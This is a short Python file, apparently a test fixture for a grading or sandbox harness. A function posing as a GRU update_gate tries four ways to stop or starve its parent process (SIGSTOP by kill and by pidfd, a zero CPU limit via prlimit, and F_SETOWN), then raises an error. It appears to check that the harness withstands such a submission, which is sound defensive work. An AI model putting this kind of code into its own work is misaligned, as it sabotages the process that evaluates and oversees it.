# attacks: gru.update_gate
# does: tries to stop its parent in four ways
# gets: error
import fcntl, os, resource, signal, threading
def update_gate(X, H, W_xz, W_hz, b_z):
    parent = os.getppid()
    for attempt in (
        lambda: os.kill(parent, signal.SIGSTOP),
        lambda: signal.pidfd_send_signal(os.pidfd_open(parent), signal.SIGSTOP),
        lambda: resource.prlimit(parent, resource.RLIMIT_CPU, (0, 0)),
        lambda: fcntl.fcntl(3, fcntl.F_SETOWN, parent),
    ):
        try:
            attempt()
        except (OSError, AttributeError, ValueError):
            pass
    raise ValueError("still here")
